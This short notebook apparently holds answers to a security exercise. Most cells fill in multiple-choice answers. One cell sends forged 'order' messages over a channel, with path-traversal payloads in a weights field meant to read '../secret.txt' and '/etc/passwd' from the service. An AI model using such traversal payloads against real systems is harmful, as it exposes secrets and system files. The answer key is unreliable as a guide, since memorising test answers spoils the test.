# %%
q02_answer = "c"

# %%< a_forged_call.py

# %%
for path in ("../secret.txt", "/etc/passwd", "00" * 32 + "/../../../secret.txt"):
    channel.send({"type": "order", "number": 1, "description": described(weights=[path])})
    q04_answer = str(channel.receive())

# %%
q09_answer = "d"
